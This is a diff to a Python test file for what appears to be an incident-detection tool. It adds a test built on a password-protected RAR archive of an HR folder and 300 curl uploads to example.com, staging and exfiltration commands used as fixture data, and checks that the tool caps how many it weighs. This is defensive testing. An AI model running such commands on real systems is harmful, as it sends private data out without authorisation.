@@ -190,8 +190,15 @@ def test_what_is_left_out_is_counted() -> None:
     (found,) = _incidents([*sources, *written])
     said = " ".join(found.notes)
     assert len(found.files.extensions) < 300
-    for what in ("accounts", "extensions", "sources", "commands"):
+    for what in ("accounts", "extensions", "sources", "commands", "events of evidence"):
         assert f"more {what} are not listed" in said
+
+
+def test_ways_out_beyond_what_anybody_reads_are_cut_and_said() -> None:
+    packed = _command(0, "rar a -hpx c:\\perflogs\\k.rar c:\\hr", "c:\\k\\rar.exe")
+    sent = [_command(1 + i, f"curl -F f=@a{i}.bin https://example.com/", "c:\\k\\curl.exe") for i in range(300)]
+    found = _incidents([packed, *sent])
+    assert any("no more than the first 200 are weighed" in note for i in found for note in i.notes)
 
 
 _ODD = (
